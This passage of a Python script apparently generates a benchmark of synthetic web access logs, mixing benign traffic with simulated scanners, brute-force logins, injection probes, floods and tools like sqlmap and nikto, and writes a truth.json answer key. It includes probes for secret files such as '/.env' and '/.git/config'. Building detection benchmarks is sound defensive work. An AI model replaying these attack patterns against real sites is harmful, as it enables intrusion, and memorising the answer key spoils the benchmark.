            self.emit(t, self.server_ip, "POST /blog/wp-cron.php?doing_wp_cron=%.10f HTTP/1.1" % t, 200, 0, "-", "WordPress/6.7.1; https://shop.example.com/blog")
            t += rng.uniform(60, 600)
        self.benign.add(self.server_ip)
        # Chrome prefetch proxy, Let's Encrypt.
        pp = [self.addrs.v4() for _ in range(3)]
        for _ in range(int(40 * max(0.2, self.scale))):
            self.emit(self.diurnal_time(), rng.choice(pp), "GET /.well-known/traffic-advice HTTP/1.1", 404, 153, "-", "Chrome Privacy Preserving Prefetch Proxy")
        self.benign.update(pp)
        le = [self.addrs.v4() for _ in range(4)] + [self.addrs.v6("server")]
        t = self.start + rng.uniform(3600, 80000)
        for ip in le:
            self.emit(t + rng.uniform(0, 3), ip, "GET /.well-known/acme-challenge/%s HTTP/1.1" % fingerprint(rng).replace("+", "-").replace("/", "_"), 200, 87, "-",
                      "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)")
        self.benign.update(le)
        # Blog editors: wp-login, wp-admin, admin-ajax heartbeat while editing.
        for _ in range(3):
            ip = self.addrs.v4()
            ua = rng.choice(BROWSER_UAS[:9])
            for _ in range(rng.randint(1, 3)):
                t = self.start + rng.uniform(8 * 3600, 20 * 3600)
                self.emit(t, ip, "GET /blog/wp-login.php HTTP/2.0", 200, 4310, "-", ua)
                if rng.random() < 0.3:
                    t += rng.uniform(5, 20)
                    self.emit(t, ip, "POST /blog/wp-login.php HTTP/2.0", 200, 4790, "https://shop.example.com/blog/wp-login.php", ua)
                t += rng.uniform(5, 20)
                self.emit(t, ip, "POST /blog/wp-login.php HTTP/2.0", 302, 0, "https://shop.example.com/blog/wp-login.php", ua)
                self.emit(t + 0.5, ip, "GET /blog/wp-admin/ HTTP/2.0", 200, 61200, "https://shop.example.com/blog/wp-login.php", ua)
                end = t + rng.uniform(600, 5400)
                while t < end:
                    t += rng.choice([15, 15, 60, 60, 120]) + rng.uniform(-1, 1)
                    self.emit(t, ip, "POST /blog/wp-admin/admin-ajax.php HTTP/2.0", 200, rng.randint(40, 400), "https://shop.example.com/blog/wp-admin/post.php?post=%d&action=edit" % rng.randint(100, 900), ua)
                    if rng.random() < 0.05:
                        self.emit(t, ip, "POST /blog/wp-json/wp/v2/posts/%d?_locale=user HTTP/2.0" % rng.randint(100, 900), 200, 9000, "https://shop.example.com/blog/wp-admin/post.php", ua)
            self.benign.add(ip)
        # Mobile app: API with token refresh (401 then refresh then retry).
        app_ua = "ShopApp/4.12.0 (iPhone; iOS 18.1; Scale/3.00)"
        for _ in range(int(300 * max(0.1, self.scale))):
            ip = self.addrs.v4() if rng.random() < 0.6 else self.addrs.v6("privacy")
            t = self.diurnal_time()
            for _ in range(rng.randint(1, 4)):
                if rng.random() < 0.3:
                    self.emit(t, ip, "GET /api/v1/orders HTTP/2.0", 401, 53, "-", app_ua)
                    self.emit(t + 0.3, ip, "POST /api/v1/auth/refresh HTTP/2.0", 200, 612, "-", app_ua)
                    t += 0.6
                if rng.random() < 0.05:
                    self.emit(t, ip, "POST /api/v1/auth/login HTTP/2.0", 401, 71, "-", app_ua)
                    t += rng.uniform(5, 20)
                    self.emit(t, ip, "POST /api/v1/auth/login HTTP/2.0", 200, 640, "-", app_ua)
                for _ in range(rng.randint(2, 12)):
                    self.emit(t, ip, "GET /api/v1/%s HTTP/2.0" % rng.choice(["orders", "products?page=%d" % rng.randint(1, 5), "cart", "me", "recommendations?limit=20"]), 200, rng.randint(300, 20000), "-", app_ua, droppable=True)
                    t += rng.uniform(1, 30)
                t += rng.uniform(600, 20000)
            self.benign.add(ip)

    # -- attackers ---------------------------------------------------------------
    def atk_ua(self):
        return self.rng.choice(ATTACK_SCAN_UAS)

    def gen_attackers(self, budget):
        rng = self.rng
        kinds = [("scanner", 30), ("discovery", 12), ("login", 14), ("injection", 14), ("flood", 6), ("tool", 12),
                 ("v6group", 5), ("drive-by", 25)]
        start_len = len(self.recs)
        cap = max(2000, budget * 0.03)
        while len(self.recs) - start_len < budget:
            kind = wchoice(rng, kinds)
            if kind == "drive-by":
                ip = self.addrs.v4() if rng.random() < 0.85 else self.addrs.v6("server")
                t = self.start + rng.uniform(0, ACCESS_SPAN - 10)
                ua = rng.choice([TOOL_UAS["zgrab"], TOOL_UAS["masscan"], "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
                                 "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com",
                                 self.atk_ua()])
                for path in rng.sample(["/", "/", "/.env", "/wp-login.php", "/.git/config", "/favicon.ico", "/robots.txt"], rng.randint(1, 2)):
                    st = 200 if path in ("/", "/favicon.ico", "/robots.txt") else 404
                    self.emit(t, ip, "GET %s HTTP/1.1" % path, st, 162 if st == 404 else 31000, "-", ua)
                    t += rng.uniform(0.1, 5)
                self.unscored.add(ip)
                continue
            ips = []
            if kind == "v6group":
                p64 = self.addrs.new64()
                ips = [self.addrs.v6_in(p64, "server") for _ in range(rng.randint(2, 5))]
                kind = rng.choice(["scanner", "discovery", "login"])
                label = "one of %d in %s" % (len(ips), prefix64(ips[0]))
            else:
                ips = [self.addrs.v6("server") if rng.random() < 0.15 else self.addrs.v4()]
                label = None
            for ip in ips:
                before = len(self.recs)
                desc = getattr(self, "atk_" + kind)(ip, cap)
                self.attackers[ip] = "http-%s: %s, %d requests%s" % (kind, desc, len(self.recs) - before, " (%s)" % label if label else "")

    def atk_start(self, dur):
        return self.start + self.rng.uniform(0, max(1, ACCESS_SPAN - dur - 5))

    def atk_scanner(self, ip, cap):
        rng = self.rng
        n = int(min(len(SCAN_PATHS) * 3, max(8, loguniform(rng, 8, 400))))
        fast = rng.random() < 0.6
        interval = loguniform(rng, 0.05, 1) if fast else loguniform(rng, 2, 60)
        t = self.atk_start(n * interval)
        ua = self.atk_ua()
        proto = rng.choice(["HTTP/1.1", "HTTP/1.1", "HTTP/1.0"])
        paths = []
        while len(paths) < n:
            paths.extend(rng.sample(SCAN_PATHS, min(n - len(paths), len(SCAN_PATHS))))
        if rng.random() < 0.6:
            self.emit(t, ip, "GET / %s" % proto, 200, 31544, "-", ua)
        for path in paths:
            t += rng.expovariate(1 / interval)
            method = "POST" if "eval-stdin" in path or "connector.minimal" in path or "xmlrpc" in path and rng.random() < 0.5 else "GET"
            st = self.status_for(path, method)
            self.emit(t, ip, "%s %s %s" % (method, path, proto), st, self.size_for(st), "-", ua)
            if rng.random() < 0.05:
                ua = self.atk_ua()  # some rotate user agents
        return "%d sensitive paths, %s" % (n, "fast" if fast else "slow, every %.0f s" % interval)

    def status_for(self, path, method="GET"):
        """What this site answers (nginx + app + WordPress under /blog/)."""
        p = path.split("?")[0]
        if p in ("/", "/robots.txt", "/sitemap.xml", "/favicon.ico", "/blog/wp-includes/wlwmanifest.xml"):
            return 200
        if p.startswith("/.well-known/acme-challenge/..") or "/../" in p or "/.%2e/" in p:
            return 400
        if p.startswith("/.ht") or p.startswith("/.git") or p.startswith("/.svn") or p.startswith("/.hg"):
            return 403
        if p == "/blog/xmlrpc.php":
            return 405 if method == "GET" else 200
        if p in ("/blog/wp-login.php", "/account/login"):
            return 200
        if p.startswith("/blog/wp-admin"):
            return 302
        if p == "/user/login":
            return 301
        return 404

    def size_for(self, status):
        return {200: self.rng.randint(300, 40000), 301: 162, 302: 0, 400: 150, 403: 548, 404: 153, 405: 42}.get(status, 153)

    def atk_discovery(self, ip, cap):
        rng = self.rng
        tool = rng.choice(["gobuster", "ffuf", "feroxbuster", "dirbuster", "wfuzz", None, None, None])
        ua = TOOL_UAS[tool] if tool else self.atk_ua()
        n = int(min(cap, loguniform(rng, 60, 6000)))
        rate = loguniform(rng, 1, 150)
        base = rng.choice(["", "", "", "/blog", "/api", "/static"])
        t = self.atk_start(n / rate)
        exts = rng.sample(DISCOVERY_EXT, rng.randint(1, 4))
        words = DISCOVERY_WORDS[:]
        rng.shuffle(words)
        i = 0
        for _ in range(n):
            w = words[i % len(words)]
            ext = exts[(i // len(words)) % len(exts)]
            i += 1
            path = "%s/%s%s" % (base, w, ext)
            status = 404
            if path in ("/blog", "/api", "/static", "/blog/", "/search", "/cart", "/account", "/help", "/stores"):
                status = 301 if not path.endswith("/") else 200
            elif w in ("admin", "config", "private", "log", "logs", "backup") and ext in ("", "/"):
                status = 403
            t += rng.expovariate(rate)
            self.emit(t, ip, "GET %s HTTP/1.1" % path, status, 153 if status == 404 else 162, "-", ua)
        return "%s, %d paths at %.0f/s under %s/" % (tool or "spoofed UA", n, rate, base)

    def atk_login(self, ip, cap):
        rng = self.rng
        target, fail = rng.choice([("/account/login", 200), ("/account/login", 200), ("/api/v1/auth/login", 401),
                                   ("/blog/wp-login.php", 200), ("/blog/xmlrpc.php", 200), ("/wp-login.php", 404),
                                   ("/api/v1/auth/login", 401)])
        n = int(min(cap, max(20, loguniform(rng, 20, 3000))))
        interval = loguniform(rng, 0.2, 30)
        t = self.atk_start(n * interval)
        ua = rng.choice([TOOL_UAS["hydra"], "python-requests/2.31.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:62.0) Gecko/20100101 Firefox/62.0",
                         BROWSER_UAS[0], "Go-http-client/1.1", "curl/7.88.1"])
        get_first = target in ("/account/login", "/blog/wp-login.php") and rng.random() < 0.5
        for _ in range(n):
            if get_first:
                self.emit(t, ip, "GET %s HTTP/1.1" % target, 200 if fail != 404 else 404, 7421, "-", ua)
                t += rng.uniform(0.05, 0.5)
            ok = rng.random() < 0.002
            st = (302 if target != "/api/v1/auth/login" else 200) if ok and fail != 404 else fail
            self.emit(t, ip, "POST %s HTTP/1.1" % target, st, 7583 if st == 200 else 71, "https://shop.example.com%s" % target if get_first else "-", ua)
            t += rng.expovariate(1 / interval)
        return "%d POSTs to %s answered %d, every %.1f s" % (n, target, fail, interval)

    def atk_injection(self, ip, cap):
        rng = self.rng
        style = rng.choice(["sqlmap", "sqlmap", "manual", "manual", "xss", "traversal", "rce"])
        raw = rng.random() < 0.15  # some clients send the payload unencoded
        if style == "sqlmap":
            n = int(min(cap, loguniform(rng, 60, 2500)))
            ua = TOOL_UAS["sqlmap"] if rng.random() < 0.5 else rng.choice(BROWSER_UAS)
            rate = loguniform(rng, 1, 20)
            base, param, val = rng.choice([("/products", "id", "1207"), ("/search", "q", "jacket"), ("/category/boots", "page", "2"),
                                           ("/api/v1/recommendations", "product", rng.choice(self.products))])
            t = self.atk_start(n / rate)
            for i in range(n):
                if i < 3:
                    path = "%s?%s=%s" % (base, param, val)
                else:
                    p = rng.choice(SQLI)
                    p = p % val if "%s" in p else p
                    path = "%s?%s=%s" % (base, param, quote(p, safe="") if not raw else p.replace(" ", "%20"))
                self.emit(t, ip, "GET %s HTTP/1.1" % path, rng.choice([200, 200, 200, 500, 404]), rng.randint(150, 40000), "-", ua)
                t += rng.expovariate(rate)
            return "sqlmap-like, %d requests on %s?%s=" % (n, base, param)
        n = rng.randint(5, 60)
        ua = self.atk_ua()
        slow = rng.random() < 0.4
        t = self.atk_start(n * (60 if slow else 2))
        pools = {"manual": SQLI + XSS + TRAVERSAL, "xss": XSS, "traversal": TRAVERSAL, "rce": RCE + TRAVERSAL}[style]
        for _ in range(n):
            p = rng.choice(pools)
            if p.startswith("/"):
                path = p.replace("%s", "%d.%d.%d.%d" % (rng.randint(45, 200), rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254)))
                path = path.replace("%%", "%")
            else:
                p = p % rng.choice(["1", "12", "jacket"]) if "%s" in p else p
                where = rng.choice(["/search?q=", "/products?id=", "/index.php?page=", "/download?file=", "/category/boots?sort=", "/account/login?next="])
                path = where + (quote(p, safe="") if not raw else p.replace(" ", "%20"))
            self.emit(t, ip, "GET %s HTTP/1.1" % path, rng.choice([200, 400, 404, 200, 500]), rng.randint(150, 30000), "-", ua)
            t += rng.expovariate(1 / (60 if slow else 2))
        return "%s payloads, %d requests%s" % (style, n, ", slow" if slow else "")

    def atk_flood(self, ip, cap):
        rng = self.rng
        rate = loguniform(rng, 20, 300)
        dur = loguniform(rng, 15, 600)
        n = int(min(cap * 2, rate * dur))
        t = self.atk_start(n / rate)
        ua = rng.choice([rng.choice(BROWSER_UAS), "Go-http-client/1.1", "-", "Mozilla/5.0"])
        target = rng.choice(["/", "/search?q=%s", "/products/%s", "/api/v1/products?page=%d", "/?%d"])
        limited = rng.random() < 0.3
        for i in range(n):
            path = target
            if "%s" in path:
                path = path % rng.choice(self.products if "products" in path else WORDS)
            elif "%d" in path:
                path = path % rng.randint(1, 99999)
            st = 503 if limited and i > rate * 2 else 200
            self.emit(t, ip, "GET %s HTTP/1.1" % path, st, 197 if st == 503 else rng.randint(9000, 60000), "-", ua)
            t += rng.expovariate(rate)
        return "%.0f req/s for %.0f s on %s" % (rate, dur, target)

    def atk_tool(self, ip, cap):
        rng = self.rng
        tool = rng.choice(["nikto", "nuclei", "wpscan", "nmap", "whatweb", "sqlmap", "nikto", "nuclei"])
        if tool == "sqlmap":
            return self.atk_injection(ip, cap)
        n = {"nikto": int(min(cap, loguniform(rng, 800, 6000))), "nuclei": int(min(cap, loguniform(rng, 100, 3000))),
             "wpscan": int(loguniform(rng, 40, 600)), "nmap": rng.randint(8, 60), "whatweb": rng.randint(5, 25)}[tool]
        rate = {"nikto": 30, "nuclei": 60, "wpscan": 10, "nmap": 5, "whatweb": 2}[tool] * rng.uniform(0.3, 1.5)
        t = self.atk_start(n / rate)
        base = "/blog" if tool == "wpscan" else ""
        for i in range(n):
            ua = TOOL_UAS[tool] % i if tool == "nikto" else TOOL_UAS[tool]
            r = rng.random()
            if r < 0.5:
                path = base + rng.choice(SCAN_PATHS)
            elif r < 0.8:
                path = base + "/" + "/".join(rng.choice(DISCOVERY_WORDS) for _ in range(rng.randint(1, 3))) + rng.choice(DISCOVERY_EXT)
            elif r < 0.9:
                path = "/search?q=" + quote(rng.choice(XSS + SQLI).replace("%s", "1"), safe="")
            else:
                path = "/download?file=" + quote(rng.choice(TRAVERSAL), safe="")
            if tool == "wpscan" and rng.random() < 0.5:
                path = "/blog/wp-content/plugins/%s/readme.txt" % rng.choice(["akismet", "contact-form-7", "woocommerce", "elementor", "wordfence", "yoast-seo", "revslider", "wp-file-manager"])
            st = self.status_for(path)
            if tool == "wpscan" and "contact-form-7/readme" in path:
                st = 200
            method = rng.choice(["GET", "GET", "GET", "HEAD", "POST"]) if tool == "nikto" else "GET"
            self.emit(t, ip, "%s %s HTTP/1.1" % (method, path), st, 0 if method == "HEAD" else self.size_for(st), "-", ua)
            t += rng.expovariate(rate)
        return "%s, %d requests" % (tool, n)

    # -- all ---------------------------------------------------------------------
    def generate(self):
        rng = self.rng
        self.gen_attackers(self.n * rng.uniform(0.24, 0.34))
        self.gen_bots_and_services()
        self.gen_visitors(self.n * 1.01 - len(self.recs))
        recs = [r for r in self.recs if self.start <= r[0] < self.end]
        recs.sort()
        surplus = len(recs) - self.n
        if surplus > 0:
            idx = [i for i, r in enumerate(recs) if r[9]]
            drop = set(rng.sample(idx, surplus))
            recs = [r for i, r in enumerate(recs) if i not in drop]
        self.recs = recs
        if len(recs) < self.n:
            raise SystemExit("access.log: only %d lines" % len(recs))
        count = {}
        for r in recs:
            count[r[2]] = count.get(r[2], 0) + 1
        present = set(count)
        for ip in list(self.attackers):
            if count.get(ip, 0) < 5:  # cut off by the end of the day: too little left to call it an attack
                del self.attackers[ip]
                if ip in present:
                    self.unscored.add(ip)
        self.benign &= present
        self.unscored &= present

    def write(self, path):
        cache = {}
        out = []
        for t, _, ip, user, req, status, size, ref, ua, _ in self.recs:
            sec = int(t)
            ts = cache.get(sec)
            if ts is None:
                d = datetime.fromtimestamp(sec, tz=timezone.utc)
                ts = cache[sec] = "%02d/%s/%d:%02d:%02d:%02d +0000" % (d.day, MONTHS[d.month - 1], d.year, d.hour, d.minute, d.second)
            req = req.replace('"', "\\x22")
            ua = ua.replace('"', "\\x22")
            out.append('%s - %s [%s] "%s" %d %d "%s" "%s"\n' % (ip, user, ts, req, status, size, ref, ua))
        with open(path, "w", encoding="utf-8", newline="\n") as f:
            f.writelines(out)

    def truth(self):
        overlap = (set(self.attackers) & self.benign) | (set(self.attackers) & self.unscored) | (self.benign & self.unscored)
        if overlap:
            raise SystemExit("access: address in two classes: %s" % sorted(overlap)[:5])
        return {
            "start": iso(self.start), "end": iso(self.end),
            "attackers": sorted(self.attackers),
            "benign": sorted(self.benign),
            "unscored": sorted(self.unscored),
            "profiles": dict(sorted(self.attackers.items())),
        }


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seed", type=int, default=42)
    ap.add_argument("--lines", type=int, default=1_000_000, help="lines per log (default 1000000)")
    ap.add_argument("--out", required=True, help="output directory")
    ap.add_argument("--end", default=DEFAULT_END, help="time of the last line (UTC, default %s)" % DEFAULT_END)
    args = ap.parse_args()
    if args.lines < 20000:
        ap.error("--lines must be at least 20000")
    end = datetime.strptime(args.end, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=timezone.utc).timestamp()
    os.makedirs(args.out, exist_ok=True)
    t0 = time.time()
    auth = AuthLog(args.seed, args.lines, end)
    auth.generate()
    auth.write(os.path.join(args.out, "auth.log"))
    access = AccessLog(args.seed, args.lines, end)
    access.generate()
    access.write(os.path.join(args.out, "access.log"))
    truth = {
        "meta": {"seed": args.seed, "lines": args.lines, "generator": "bench/gen_logs.py"},
        "auth": auth.truth(),
        "access": access.truth(),
    }
    with open(os.path.join(args.out, "truth.json"), "w") as f:
        json.dump(truth, f, indent=1, sort_keys=True)
        f.write("\n")
    for name in ("auth", "access"):
        tr = truth[name]
        print("%s.log: %d lines, %d attackers, %d benign, %d unscored" % (
            name, args.lines, len(tr["attackers"]), len(tr["benign"]), len(tr["unscored"])), file=sys.stderr)
    print("generated in %.1f s" % (time.time() - t0), file=sys.stderr)


if __name__ == "__main__":
    main()
